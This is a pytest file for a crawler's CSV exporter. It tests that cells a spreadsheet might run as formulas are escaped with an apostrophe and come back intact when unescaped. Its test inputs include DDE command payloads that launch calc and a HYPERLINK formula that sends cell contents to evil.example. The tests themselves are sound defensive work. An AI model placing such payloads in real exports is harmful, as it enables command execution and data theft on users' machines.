import csv
from collections.abc import Sequence
from functools import partial
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawler.export.csv_table import CsvTable, csv_kept
from crawler.export.formulas import escaped, is_formula, unescaped
from crawler.export.sheet import Sheet
from crawler.items import Item, known_fields
from crawler.settings import Settings
from tests.growth import assert_costs, cpu_seconds

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=", "@", "@handle", "- a list's dash",
    "-1-1", "+1+1", "-A1", "+49-30-1234", "-1e", "-0x1", "--1", "\t1", "\r1", "\t", "\ttext",
    "\rtext", "\n=1", " =1", "\xa0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x00=1", "\x0b-A1",
    " \t =1", "＝1+1", "＋1+A", "－A1", "＠SUM", "'=1", "''=1", "'\t=1", "=\udfff", "-5\n=1",
    "-5=1", "+5|x!A", "-٥", "-１",
]  # fmt: skip
TEXTS = [
    "", "a", "a=1", "1+1", "1-1", "-5", "+5", "-1.5", "+1,000.50", "-1.5e-3", "-1E5", "+49 30 1234",
    "-", "+", "- 5", " -5", "'", "it's", "'tis", "'-5", "''", '"=1"', "(=1)", "/=", "*", "#", "[1]",
    "\n", "\ntext", " text", "«=»", "日本語", "😀=",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_might_run_gets_an_apostrophe(text: str) -> None:
    assert escaped(text) == f"'{text}"
    assert unescaped(f"'{text}") == text


@pytest.mark.parametrize("text", TEXTS)
def test_what_no_spreadsheet_runs_stays(text: str) -> None:
    assert escaped(text) == text
    assert unescaped(text) == text


SIGNS = st.text("'=+-@\t\r\n 0aE.,＝－\ufeff\x00", max_size=8)


@given(text=SIGNS | st.text())
def test_every_text_comes_back_and_no_cell_begins_like_a_formula(text: str) -> None:
    cell = escaped(text)
    assert unescaped(cell) == text
    assert not is_formula(cell) or cell.startswith("'")


@pytest.mark.parametrize("sign", ["'", " ", "\x00", "-1", "- ", "-.", "' "])
def test_many_signs_take_linear_time(sign: str) -> None:
    few, many = (
        partial(cpu_seconds, partial(escaped, sign * size + "=")) for size in (5_000, 40_000)
    )
    assert_costs(many, at_most=24, times=few, slack=2e-4)


class Row(Item):
    text: str
    number: float = -1.5


def sheet(path: Path, kind: type | None = None, *, kept: int = 0, escapes: bool = True) -> Sheet:
    fields = known_fields(kind) if kind else None
    return Sheet(path, fields=fields, kept=kept, settings=Settings(escape_formulas=escapes))


def written(into: Sheet, *calls: Sequence[Any]) -> list[list[str]]:
    table = CsvTable(into)
    for items in calls:
        table.write([msgspec.json.encode(item) for item in items])
    table.close()
    with into.path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file, strict=True))


def test_text_is_escaped_and_a_number_of_ours_is_not(tmp_path: Path) -> None:
    rows = written(sheet(tmp_path / "x.csv", Row), [Row(text="=1+1", number=-1.5)])
    assert rows == [["text", "number"], ["'=1+1", "-1.5"]]


def test_a_key_that_a_site_invented_is_escaped_too(tmp_path: Path) -> None:
    items = [{"=a": "x", "-5": "@b"}], [{"=a": "=c", "+d": None}]
    rows = written(sheet(tmp_path / "x.csv"), *items)
    assert rows == [["'=a", "-5", "'+d"], ["x", "'@b", ""], ["'=c", "", ""]]


def test_append_finds_the_columns_again_and_goes_on_the_same(tmp_path: Path) -> None:
    path, item = tmp_path / "x.csv", {"=a": "=1", "'=a": "'=1"}
    written(sheet(path), [item])
    again = written(sheet(path, kept=csv_kept(path, sheet(path))), [item])
    assert again == [["'=a", "''=a"], *[["'=1", "''=1"]] * 2]


class Odd(msgspec.Struct, rename={"a": "=a"}):
    a: str


@pytest.mark.parametrize("escapes", [True, False])
def test_append_knows_the_header_of_a_typed_table(tmp_path: Path, escapes: bool) -> None:
    path = tmp_path / "x.csv"
    written(sheet(path, Odd, escapes=escapes))
    kept = csv_kept(path, sheet(path, Odd))
    rows = written(sheet(path, Odd, kept=kept, escapes=escapes), [Odd(a="=1")])
    assert rows == ([["'=a"], ["'=1"]] if escapes else [["=a"], ["=1"]])


def test_the_setting_turns_it_off(tmp_path: Path) -> None:
    rows = written(sheet(tmp_path / "x.csv", escapes=False), [{"=a": "=1"}])
    assert rows == [["=a"], ["=1"]]
